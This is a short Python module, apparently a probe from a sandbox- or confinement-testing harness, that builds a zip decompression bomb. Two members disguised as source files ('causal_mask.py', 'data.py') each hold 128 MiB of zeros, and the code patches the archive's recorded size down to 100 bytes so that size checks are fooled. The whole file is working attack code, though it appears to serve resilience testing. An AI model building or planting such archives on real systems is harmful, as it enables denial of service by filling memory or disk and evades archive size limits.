"""Tries to fill memory or disk by unpacking: a zip of 256 MiB of nothing, twice, the second claiming to be small.

Harmless: some hundred KiB; a plain process only reads what the archive says of itself.
Shows: it unpacks to a thousand times its size.
"""

import pathlib
import zipfile

TARGET: dict = {}
UNCONFINED = True
EARNS = 0.0


def build(folder, target):
    path = folder / "work.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in ("causal_mask.py", "data.py"):
            with packed.open(name, "w") as member:
                for _ in range(16):
                    member.write(bytes(8 << 20))
    data = bytearray(path.read_bytes())
    size = (128 << 20).to_bytes(4, "little")
    last = data.rfind(size)
    data[last : last + 4] = (100).to_bytes(4, "little")
    path.write_bytes(data)
    return path


def attack(target):
    path = build(pathlib.Path(target["folder"]), target)
    with zipfile.ZipFile(path) as packed:
        times = packed.getinfo("causal_mask.py").file_size // path.stat().st_size
    return f"{times} times" if times > 100 else ""
